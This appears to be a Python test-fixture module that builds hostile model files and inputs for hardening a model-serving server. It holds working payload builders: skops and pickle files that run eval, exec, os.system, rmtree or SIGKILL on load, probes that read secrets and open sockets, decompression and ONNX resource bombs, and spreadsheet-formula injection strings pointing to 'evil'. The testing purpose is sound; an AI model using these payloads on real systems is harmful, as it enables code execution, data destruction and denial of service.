"""Hostile inputs, built on the fly (no attack file is committed): model files whose loading or use would run
code or touch files, bombs that expand when decoded, and strings that a renderer or a spreadsheet would run."""
from __future__ import annotations

import builtins
import functools
import io
import json
import os
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

MARKDOWN_NAMES = ("![x](http://127.0.0.1:{port}/p.png)", "**bold**")
FORMULAS = ("=HYPERLINK(\"http://evil/\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=1+2")


def eval_payload_skops(sentinel: Path) -> bytes:
    """A Pipeline whose FunctionTransformer calls builtins.eval (through functools.partial) on every scoring call:
    the evaluated code creates ``sentinel``."""
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    code = f"open({str(sentinel)!r}, 'w').close() or 0"
    X = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.0]})
    pipe = Pipeline([("payload", FunctionTransformer(functools.partial(builtins.eval, code, {}))),
                     ("lr", LogisticRegression())])
    pipe.steps[1][1].fit(X.to_numpy(), [0, 1, 0, 1])  # fitted without running the payload
    return sio.dumps(pipe)


def disguised_skops(alias_module: str, real) -> bytes:
    """A FunctionTransformer whose function is written under another module's name (``alias_module``) that
    re-exports the dangerous ``real`` function, e.g. ``scipy._lib._tmpdirs.rmtree`` for ``shutil.rmtree``."""
    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    blob = sio.dumps(FunctionTransformer(func=real))
    source = zipfile.ZipFile(io.BytesIO(blob))
    schema = json.loads(source.read("schema.json"))
    schema["content"]["content"]["func"]["__module__"] = alias_module
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, json.dumps(schema) if name == "schema.json" else source.read(name))
    return out.getvalue()


DISGUISED = (("scipy._lib._tmpdirs", shutil.rmtree, "shutil.rmtree"),
             ("sklearn.datasets._california_housing", os.remove, "posix.remove"),
             ("posix", os.system, "posix.system"))


def skops_array_bomb(n_values: int) -> bytes:
    """A skops file holding a float64 array of ``n_values`` zeros, its members deflated (~1000:1)."""
    import skops.io as sio

    source = zipfile.ZipFile(io.BytesIO(sio.dumps({"weights": np.zeros(n_values)})))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue()


def parquet_bomb(rows: int, path: Path, chunk: int = 10_000_000) -> Path:
    """A Parquet file of ``rows`` rows of one constant column (a few KB per 10M rows), written in chunks."""
    part = pa.table({"x": pa.array(np.zeros(min(rows, chunk), dtype=np.int8))})
    with pq.ParquetWriter(path, part.schema, compression="zstd") as writer:
        for start in range(0, rows, chunk):
            writer.write_table(part.slice(0, min(chunk, rows - start)))
    return path


def nested_parquet() -> bytes:
    buffer = io.BytesIO()
    pq.write_table(pa.table({"x": [[1, 2], [3]], "y": [0, 1]}), buffer)
    return buffer.getvalue()


def onnx_loop(steps: int = 10**10) -> bytes:
    """An ONNX graph that loops ``steps`` times on every input (one float tensor of width 3)."""
    from onnx import TensorProto, helper

    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["x_in", "one"], ["x_out"])],
        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                 helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("x_in", TensorProto.FLOAT, None)],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("x_out", TensorProto.FLOAT, None)],
        [helper.make_tensor("one", TensorProto.FLOAT, [], [1.0])])
    graph = helper.make_graph(
        [helper.make_node("Loop", ["M", "cond", "X"], ["Y"], body=body)], "loop",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor("M", TensorProto.INT64, [], [steps]),
         helper.make_tensor("cond", TensorProto.BOOL, [], [True])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def onnx_memory_hog(values: int = 10**10) -> bytes:
    """An ONNX graph that allocates a float tensor of ``values`` entries (40 GB by default) on every call."""
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("ConstantOfShape", ["shape"], ["big"]), helper.make_node("ReduceSum", ["big"], ["s"]),
         helper.make_node("Add", ["X", "s"], ["Y"])], "hog",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor("shape", TensorProto.INT64, [1], [values])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def wide_header(columns: int = 20_000) -> bytes:
    header = ",".join(f"c{i}" for i in range(columns))
    return (header + "\n" + ",".join("1" for _ in range(columns)) + "\n").encode()


def markdown_table(port: int = 8599, rows: int = 200, seed: int = 0) -> pd.DataFrame:
    """A small classification table whose feature names and category values are markdown / HTML."""
    rng = np.random.default_rng(seed)
    image, bold = (n.format(port=port) for n in MARKDOWN_NAMES)
    x = rng.normal(size=rows)
    return pd.DataFrame({image: x, bold: rng.normal(size=rows),
                         "colour": rng.choice(["<b>red</b>", "[blue](http://127.0.0.1:%d/c)" % port], size=rows),
                         "label": np.where(x + rng.normal(scale=0.5, size=rows) > 0, "yes", "no")})


# --- model files whose loading calls a function of an installed package (skops reduce nodes) ---------------------

def reduce_call_skops(module: str, name: str, *args) -> bytes:
    """A skops file whose root node calls ``module.name(*args)`` when it is loaded (a ConstructorFromReduceNode,
    skops' node for objects rebuilt by calling their type): the arguments are skops' own encoding of ``args``."""
    import skops.io as sio

    arguments = json.loads(zipfile.ZipFile(io.BytesIO(sio.dumps(tuple(args)))).read("schema.json"))
    protocol, version = arguments.pop("protocol"), arguments.pop("_skops_version")
    schema = {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
              "content": arguments, "protocol": protocol, "_skops_version": version}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return out.getvalue()


def call_payloads(sentinel: Path) -> dict[str, tuple[str, str, tuple]]:
    """The seven callables a visitor could confirm before the allow-list (issue 25), each called so that it creates
    ``sentinel`` (a file or a folder): Python code, a shell command, a logging handler factory, a script runner, a
    file handler, a mailbox, a version report written to a file."""
    code = f"open({str(sentinel)!r}, 'w').close()"
    config = {"version": 1, "handlers": {"h": {"()": "subprocess.getoutput", "cmd": f"touch '{sentinel}'"}}}
    return {"timeit.timeit": ("timeit", "timeit", ("pass", code, None, 1)),
            "pydoc.pipepager": ("pydoc", "pipepager", ("x", f"touch '{sentinel}'")),
            "logging.config.dictConfig": ("logging.config", "dictConfig", (config,)),
            "assert_run_python_script_without_output": ("sklearn.utils._testing",
                                                        "assert_run_python_script_without_output", (code,)),
            "logging.FileHandler": ("logging", "FileHandler", (str(sentinel),)),
            "mailbox.Maildir": ("mailbox", "Maildir", (str(sentinel),)),
            "pandas.show_versions": ("pandas", "show_versions", (str(sentinel),))}


def function_skops(function) -> bytes:
    """A FunctionTransformer holding ``function`` (a FunctionNode: the model calls it when it scores)."""
    import skops.io as sio
    from sklearn.preprocessing import FunctionTransformer

    return sio.dumps(FunctionTransformer(func=function))


def probe_pickle(sentinel: Path, secret: Path, port: int) -> bytes:
    """A pickle that, unpickled, tries what an attacker would — write a file, read a secret, connect to a port, run
    a shell command, list the environment — and raises with each outcome, so that the report comes back as the
    load's error message (``PROBE {json}``)."""
    import pickle

    code = f"""
import os, json, socket
report = {{}}
def tried(key, action):
    try:
        report[key] = str(action())
    except BaseException as exc:
        report[key] = "refused: " + type(exc).__name__
tried("write", lambda: open({str(sentinel)!r}, "w").close())
tried("read", lambda: open({str(secret)!r}).read())
tried("connect", lambda: socket.create_connection(("127.0.0.1", {port}), 1))
tried("shell", lambda: os.system("touch '{sentinel}-shell'"))
tried("environment", lambda: ",".join(sorted(os.environ)))
raise RuntimeError("PROBE " + json.dumps(report))
"""

    class Probe:
        def __reduce__(self):
            return exec, (code, {})
    return pickle.dumps(Probe())


def onnx_data_dependent(scale: float = 1e8) -> bytes:
    """An ONNX graph of one float input (width 3) and one output per row that allocates ``max(X) × scale`` floats:
    nothing for the all-zero row a trial run would use, gigabytes for real rows."""
    from onnx import TensorProto, helper

    graph = helper.make_graph(
        [helper.make_node("ReduceMax", ["X"], ["m"], keepdims=0),
         helper.make_node("Mul", ["m", "scale"], ["n"]), helper.make_node("Cast", ["n"], ["ni"], to=TensorProto.INT64),
         helper.make_node("Reshape", ["ni", "one_shape"], ["shape"]),
         helper.make_node("ConstantOfShape", ["shape"], ["big"]), helper.make_node("ReduceSum", ["big"], ["s"]),
         helper.make_node("ReduceSum", ["X", "axis"], ["row"], keepdims=1),
         helper.make_node("Add", ["row", "s"], ["Y"])], "data_dependent",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 3])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, 1])],
        [helper.make_tensor("scale", TensorProto.FLOAT, [], [scale]),
         helper.make_tensor("one_shape", TensorProto.INT64, [1], [1]),
         helper.make_tensor("axis", TensorProto.INT64, [1], [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    return model.SerializeToString()


def lightgbm_text(edit: str | None = None) -> bytes:
    """A small LightGBM binary model in its text format; ``edit`` "num_leaves" raises one tree's leaf count to
    100,000 (LightGBM's parser aborts the process on it), "truncated" cuts the file in half, "classes" declares
    100,000,000 classes."""
    import re

    import lightgbm as lgb

    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(300, 4)), columns=["a", "b", "c", "d"])
    text = lgb.LGBMClassifier(n_estimators=5, num_leaves=4, verbose=-1).fit(X, X["a"] > 0).booster_.model_to_string()
    if edit == "num_leaves":
        text = re.sub(r"num_leaves=\d+", "num_leaves=100000", text, count=1)
    elif edit == "truncated":
        text = text[: len(text) // 2]
    elif edit == "classes":
        text = re.sub(r"num_class=\d+", "num_class=100000000", text, count=1)
    return text.encode()


def xgboost_json(num_feature: str | None = None) -> bytes:
    """A small XGBoost binary model in its JSON format, its header's ``num_feature`` optionally replaced."""
    import xgboost

    rng = np.random.default_rng(0)
    X = pd.DataFrame(rng.normal(size=(300, 4)), columns=["a", "b", "c", "d"])
    booster = xgboost.XGBClassifier(n_estimators=5, max_depth=2).fit(X, X["a"] > 0).get_booster()
    model = json.loads(booster.save_raw("json"))
    if num_feature is not None:
        model["learner"]["learner_model_param"]["num_feature"] = num_feature
    return json.dumps(model).encode()


def code_model(body: str) -> bytes:
    """A trusted pickle of a binary classifier (classes 0 and 1, two inputs) whose ``predict_proba`` runs ``body``
    (Python; ``X`` the rows, ``out`` the scores it returns, 0.5 each unless ``body`` changes them) in its worker."""
    import pickle
    import textwrap

    code = ("import numpy as np\nclass Model:\n    classes_ = np.array([0, 1])\n    n_features_in_ = 2\n"
            "    def predict_proba(self, X):\n        out = np.full((len(X), 2), 0.5)\n"
            f"{textwrap.indent(body, ' ' * 8)}\n        return out\nmodel = Model()\n")

    class Built:
        def __reduce__(self):
            return eval, (f"(lambda ns: (exec({code!r}, ns), ns['model'])[1])({{}})",)
    return pickle.dumps(Built())


SIGNAL_PROBE = """
import ctypes, json, os, signal
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
report = {}
def tried(key, call):
    try:
        report[key] = "refused" if call() < 0 else "sent"
    except OSError as exc:
        report[key] = "refused: " + os.strerror(exc.errno)
def info(sig):
    buffer = (ctypes.c_int * 32)()
    buffer[0], buffer[2] = sig, -1  # si_signo, si_code SI_QUEUE: what a process may send
    return ctypes.byref(buffer)
def pidfd(pid, sig):
    signal.pidfd_send_signal(os.pidfd_open(pid), sig)
    return 0
for name, (pid, sig) in TARGETS.items():
    tried(name + " kill", lambda: os.kill(pid, sig) or 0)
    tried(name + " tkill", lambda: libc.syscall(200, pid, sig))
    tried(name + " tgkill", lambda: libc.syscall(234, pid, pid, sig))
    tried(name + " rt_sigqueueinfo", lambda: libc.syscall(129, pid, sig, info(sig)))
    tried(name + " rt_tgsigqueueinfo", lambda: libc.syscall(297, pid, pid, sig, info(sig)))
    tried(name + " pidfd_send_signal", lambda: pidfd(pid, sig))
raise RuntimeError("PROBE " + json.dumps(report))
"""

REPLY_PROBE = """
import fcntl, json, os, stat, struct, time
errors = os.fstat(2).st_ino
pipe = next(fd for fd in range(3, 256) if _is_outbox(fd, errors))
def frame(data):
    return struct.pack("<Q", len(data)) + data
def write(data):
    view = memoryview(data)
    while view:
        view = view[os.write(pipe, view):]
if KIND == "array":  # 5 rows answered with a GiB
    write(frame(json.dumps({"value": {"value": {"__array__": 0}},
                            "arrays": [{"dtype": "<f8", "shape": [len(X), 2**27 // len(X)]}]}).encode()))
    write(struct.pack("<Q", 2**30))
    for _ in range(1024):
        write(bytes(2**20))
elif KIND == "header":  # a 64 MB header
    write(struct.pack("<Q", 64 * 2**20))
    for _ in range(64):
        write(b"[" * 2**20)
elif KIND == "nested":  # JSON nested 30,000 deep, within the header's size
    write(frame(b"[" * 30000 + b"]" * 30000))
elif KIND == "deep":  # JSON that decodes, nested deeper than the protocol allows
    deep = 0
    for _ in range(40):
        deep = [deep]
    write(frame(json.dumps({"value": {"value": deep}, "arrays": []}).encode()))
elif KIND == "slow":  # a header that trickles in past the call's time limit
    write(struct.pack("<Q", 1000))
    for _ in range(1000):
        write(b" ")
        time.sleep(0.01)
elif KIND == "stderr":  # 256 MB without a newline, then a well-formed answer
    for _ in range(256):
        os.write(2, b"x" * 2**20)
"""


def _is_outbox(fd: int, errors: int) -> bool:
    """(Run in the worker, pasted into :data:`REPLY_PROBE`.) Whether ``fd`` is the pipe of the worker's replies."""
    import fcntl
    import os
    import stat

    try:
        st = os.fstat(fd)
    except OSError:
        return False
    return stat.S_ISFIFO(st.st_mode) and st.st_ino != errors and \
        fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY


def reply_probe(kind: str) -> bytes:
    """A model whose ``predict_proba`` writes a malformed or oversized reply of ``kind`` to the server itself."""
    import inspect

    return code_model(inspect.getsource(_is_outbox) + f"KIND = {kind!r}\n" + REPLY_PROBE)


def signal_probe(targets: dict[str, tuple[int, int]]) -> bytes:
    """A model whose ``predict_proba`` sends each target ``{name: (pid, signal)}`` its signal by every call Linux
    has, and raises with what happened (``PROBE {json}``)."""
    return code_model(f"TARGETS = {targets!r}\n" + SIGNAL_PROBE)


def killer_pickle(pid: int) -> bytes:
    """A pickle that, unpickled, sends SIGKILL to process ``pid`` (the server) by every signal call Linux has, then
    raises with what happened (``PROBE {json}``)."""
    import pickle

    code = f"TARGETS = {{'server': ({pid}, 9)}}\n" + SIGNAL_PROBE

    class Killer:
        def __reduce__(self):
            return exec, (code, {})
    return pickle.dumps(Killer())
